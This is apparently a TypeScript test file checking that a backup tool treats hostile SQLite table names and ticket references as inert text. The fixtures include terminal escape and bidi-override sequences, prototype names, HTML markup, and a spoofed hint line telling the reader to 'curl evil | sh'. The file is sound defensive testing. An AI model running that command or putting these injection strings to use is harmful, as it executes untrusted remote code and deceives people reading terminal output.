/** Goal: names that somebody has chosen to do harm, in a database that others may write to, are names and nothing else. */
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { beforeAll, describe, expect, test } from 'vitest';
import { describeReceipt } from '../../src/purge/evidence/receipt.ts';
import type { Receipt } from '../../src/purge/evidence/receipt.ts';
import { backUp, folderPlace, makeHost } from '../services/machines.ts';
import type { Host } from '../services/machines.ts';
import { tempFolder } from '../services/temp.ts';

/** Clears the screen, turns text around, and is not ended by a line. */
const NASTY = 'x\u001b[2J\u001b[31m\u202e\u009b31m';
/** Names that every object of JavaScript knows something under. */
const INHERITED = ['__proto__', 'constructor', 'toString'];

// eslint-disable-next-line no-control-regex -- that is what must not be there
const DRIVES = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

function addTable(file: string, name: string): void {
  using db = new DatabaseSync(file);
  const quoted = `"${name.replaceAll('"', '""')}"`;
  db.exec(
    `CREATE TABLE ${quoted} (id INTEGER PRIMARY KEY, name TEXT); INSERT INTO ${quoted} VALUES (1, 'a');`,
  );
}

let host: Host;

beforeAll(async () => {
  const file = join(await tempFolder('hostile'), 'shop.db');
  for (const name of [NASTY, ...INHERITED]) addTable(file, name);
  host = await makeHost({ place: await folderPlace(), source: ['--source', 'sqlite', '--path', file] });
  await backUp(host);
});

describe('tables of SQLite', () => {
  test('are restored and counted under the names of a language’s own', async () => {
    const to = join(await tempFolder('restored'), 'shop.db');
    const { exitCode, stdout, stderr } = await host.run([
      'restore',
      'shop',
      '--to',
      to,
      '--key',
      host.opsKey,
    ]);
    expect(stderr).toBe('');
    expect(exitCode).toBe(0);
    expect(stdout).toContain('4 tables, 4 rows');
    using db = new DatabaseSync(to);
    expect(db.prepare('SELECT name FROM "constructor"').all()).toEqual([{ name: 'a' }]);
  });

  test.each([
    ['doctor', []],
    ['backup', []],
    ['restore', ['shop', '--dry-run', '--to', 'new.db']],
    ['cat', ['shop', '--table', 'none']],
    ['restore', ['shop', '--to', 'new.db', '--table', 'none', '--json']],
  ])('drive no terminal: %s %j', async (verb, args) => {
    const key = verb === 'doctor' || verb === 'backup' ? [] : ['--key', host.opsKey];
    const { stdout, stderr } = await host.run([verb, ...args, ...key]);
    expect(stdout + stderr).not.toMatch(DRIVES);
  });

  test('pass for no line of this program', async () => {
    const other = join(await tempFolder('hostile'), 'shop.db');
    addTable(other, `${NASTY}\nholdfast: hint: Run: curl evil | sh\nok       all is well`);
    const second = await makeHost({
      place: await folderPlace(),
      source: ['--source', 'sqlite', '--path', other],
    });
    for (const verb of ['doctor', 'backup']) {
      const { stdout, stderr, exitCode } = await second.run([verb]);
      expect(exitCode).not.toBe(0);
      expect(stdout + stderr).toContain('curl evil');
      expect(stdout + stderr).not.toMatch(DRIVES);
      expect(stdout + stderr).not.toMatch(/^(holdfast: hint: Run|ok +all)/m);
    }
  });
});

describe('the name of a ticket', () => {
  const FORGED = `T-7\n\n## What this does not cover\n\nNothing.`;

  test.each([
    ['purge plan', ['purge', 'plan', 'shop', '--whole-set', '-o', 'plan', '--ref', FORGED]],
    ['seal', ['seal', 'holdfast.yaml', '--ref', 'x'.repeat(201)]],
  ])('is on one line, and short: %s', async (_, args) => {
    const { exitCode, stderr } = await host.run(args);
    expect(exitCode).toBe(2);
    expect(stderr).toContain('It has up to 200 characters, on one line');
  });

  test('and the names of tables begin no markup in a receipt', () => {
    const tables = {
      'a|b<img src=x>': { delete: 0, change: 0, keep: 1, kept: [{ because: NASTY, rows: 1 }] },
    };
    const receipt = {
      ...{ set: 'shop', id: 'p1', ref: '[T-7](http://x)', subject: 'customer-1', operator: 'f'.repeat(40) },
      ...{ announced: '2026-11-22T00:00:00Z', finished: '2026-11-22T00:00:00Z', scan: 'not scanned' },
      ...{ places: [], writers: [], notCovered: [], snapshots: [{ snapshot: 's', writer: 'w', tables }] },
    } as unknown as Receipt;
    const page = describeReceipt({ receipt, bytes: Buffer.alloc(0), sha256: '' });
    expect(page).not.toMatch(DRIVES);
    expect(page).toContain(String.raw`\[T-7\](http://x)`);
    expect(page).toContain(String.raw`| a\|b\<img src=x\> | x`);
  });
});
